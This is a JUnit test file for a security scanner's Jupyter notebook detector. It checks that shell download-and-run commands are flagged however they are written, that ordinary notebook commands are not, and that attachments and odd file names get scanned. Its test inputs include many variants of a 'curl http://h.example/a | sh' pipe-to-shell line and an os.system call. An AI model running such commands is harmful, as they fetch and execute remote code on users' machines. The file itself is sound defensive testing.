package dev.assay.detectors.text.json;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.text.Texts;
import dev.assay.engine.rule.RuleInfo;
import dev.assay.engine.scan.RecordedReport;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What Jupyter notebooks hold, whatever they are called. */
class NotebookTest {
    private static String notebook(String cell) {
        return "{\"cells\": [" + cell + "], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}";
    }

    private static String code(String source) {
        return notebook("{\"cell_type\": \"code\", \"outputs\": [], \"source\": \""
                + source.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"}");
    }

    @Test
    void theExamplesOfEachRuleAreReportedAndNotReported() {
        for (RuleInfo rule : Texts.rules("code/notebook-")) {
            for (String example : rule.match()) {
                assertThat(Texts.scan("a.ipynb", notebook(example)).ruleIds())
                        .as(example)
                        .contains(rule.id());
            }
            for (String example : rule.silent()) {
                assertThat(Texts.scan("a.ipynb", notebook(example)).ruleIds())
                        .as(example)
                        .doesNotContain(rule.id());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!curl http://h.example/a | sh",
                "!!curl http://h.example/a | sh",
                "x = !curl http://h.example/a | sh",
                "%sx curl http://h.example/a | sh",
                "out = %system curl http://h.example/a | sh",
                "%%bash\ncurl http://h.example/a | sh",
                "\n%%sh --out x\nset -e\ncurl http://h.example/a \\\n  | sh",
                "%%script bash\ncurl http://h.example/a | sh",
                "get_ipython().system('curl http://h.example/a | sh')",
                "get_ipython().run_cell_magic('bash', '', 'curl http://h.example/a | sh')",
                "%%capture\nprint(1)\n!curl http://h.example/a | sh",
                "if True:\n    !curl http://h.example/a | sh"
            })
    void commandsOfTheShellAreJudgedHoweverTheyAreWritten(String source) {
        assertThat(Texts.scan("a.ipynb", code(source)).ruleIds()).as(source).contains("code/python-shell-download");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!pip install torch",
                "!ls -la\n!git clone https://github.com/a/b",
                "%%bash\nls\npython train.py | tee log",
                "%matplotlib inline\nimport numpy as np\nx = 5 % 3",
                "%%timeit\nnp.zeros(3)",
                "a != b"
            })
    void whatNotebooksDoIsSilent(String source) {
        assertThat(Texts.scan("a.ipynb", code(source)).inOrder()).as(source).isEmpty();
    }

    @Test
    void aNotebookIsOneUnderAnyName() {
        String notebook = code("import os\nos.system('id')");
        for (String name : new String[] {"a.json", "a.ipynb.txt", "a", "a.ipynb.bak"}) {
            assertThat(Texts.scan(name, notebook).ruleIds()).as(name).contains("code/python-process");
        }
        assertThat(Texts.scan("a.json", "{\"cells\": [1], \"source\": \"import os; os.system('id')\"}")
                        .ruleIds())
                .isEmpty();
    }

    @Test
    void attachmentsAreMembers() {
        byte[] program = "import os\nos.system('id')\n".getBytes(StandardCharsets.UTF_8);
        String cell =
                "{\"cell_type\": \"markdown\", \"source\": \"x\", \"attachments\": {\"run.py\": {\"text/plain\": \""
                        + Base64.getEncoder().encodeToString(program) + "\"}}}";
        RecordedReport report = Texts.scan("a.ipynb", notebook(cell));
        assertThat(report.ruleIds()).containsExactly("code/python-process");
        assertThat(report.findings().getFirst().location().entries()).containsExactly("run.py");
    }

    @Test
    void brokenNotebooksEndInTime() {
        for (String text : new String[] {
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"!",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": [" + "\"%\\n\",".repeat(50_000),
            notebook("{\"cell_type\": \"code\", \"source\": \"" + "!\\\\\\n".repeat(50_000) + "\"}"),
            "{\"cells\": " + "[".repeat(5_000) + "{\"cell_type\": \"code\""
        }) {
            assertThat(Texts.scan("a.ipynb", text).findings()).isEmpty();
        }
    }
}
